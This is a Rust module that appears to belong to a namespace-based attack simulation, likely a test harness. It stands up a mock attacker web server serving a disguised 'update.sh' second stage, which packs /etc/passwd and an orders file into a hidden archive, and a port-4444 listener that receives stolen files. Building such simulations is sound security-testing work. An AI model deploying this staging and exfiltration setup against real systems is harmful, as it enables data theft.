//! The attacker's own machine: a web server that hands out the second stage, and a port that takes what is stolen.

use std::fs;
use std::io::Read;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};

use super::network::{ATTACKER, Namespace};
use crate::process;

/// Port of the attacker's web server.
pub(super) const WEB_PORT: u16 = 8000;

/// Port that takes stolen files.
pub(super) const DROP_PORT: u16 = 4444;

/// Name of the second stage on the attacker's web server.
pub(super) const SECOND_STAGE: &str = "update.sh";

/// Looks around and packs what it finds; harms nothing.
const SECOND_STAGE_SCRIPT: &str = "#!/bin/sh\n\
    /bin/uname -a\n\
    /bin/ps\n\
    /bin/tar -c -f /tmp/.loot /etc/passwd /srv/orders.csv\n";

const PATIENCE: Duration = Duration::from_secs(10);

/// The attacker's web server, ended when dropped.
pub(super) struct WebServer {
    child: Child,
}

impl WebServer {
    /// Serves the second stage from inside the attacker's namespace.
    pub(super) fn start(namespace: &Namespace, folder: &Path) -> Result<Self> {
        let pages = folder.join("attacker");
        fs::create_dir(&pages)?;
        fs::write(pages.join(SECOND_STAGE), SECOND_STAGE_SCRIPT)?;
        let mut httpd = namespace.command("busybox");
        httpd
            .args(["httpd", "-f", "-p", &format!("{ATTACKER}:{WEB_PORT}"), "-h"])
            .arg(&pages);
        let child = httpd
            .stdin(Stdio::null())
            .spawn()
            .context("cannot start the attacker's web server")?;
        let server = Self { child };
        namespace.inside(|| wait_for_server(&format!("{ATTACKER}:{WEB_PORT}").parse()?))?;
        Ok(server)
    }
}

impl Drop for WebServer {
    fn drop(&mut self) {
        // Both fail only where it has ended already.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Waits until something accepts connections.
pub(super) fn wait_for_server(server: &SocketAddr) -> Result<()> {
    if !process::wait_until(PATIENCE, || Ok(TcpStream::connect_timeout(server, PATIENCE).is_ok()))? {
        bail!("nothing answers at {server}");
    }
    Ok(())
}

/// Takes one stolen file while `send` makes the victim send it; to be called inside the attacker's namespace.
pub(super) fn receive<T>(send: impl FnOnce() -> Result<T>) -> Result<(T, Vec<u8>)> {
    let listener = TcpListener::bind((ATTACKER, DROP_PORT)).context("the attacker cannot listen")?;
    listener.set_nonblocking(true)?;
    thread::scope(|scope| {
        let receiver = scope.spawn(|| accept_one(&listener));
        let sent = send()?;
        let received = receiver
            .join()
            .unwrap_or_else(|_| bail!("the attacker's listener panicked"))?;
        Ok((sent, received))
    })
}

fn accept_one(listener: &TcpListener) -> Result<Vec<u8>> {
    let start = Instant::now();
    let mut stream = loop {
        match listener.accept() {
            Ok((stream, _)) => break stream,
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock && start.elapsed() < PATIENCE => {
                thread::sleep(Duration::from_millis(5));
            }
            Err(error) => return Err(error).context("the stolen file did not arrive"),
        }
    };
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let mut file = Vec::new();
    stream.read_to_end(&mut file)?;
    Ok(file)
}
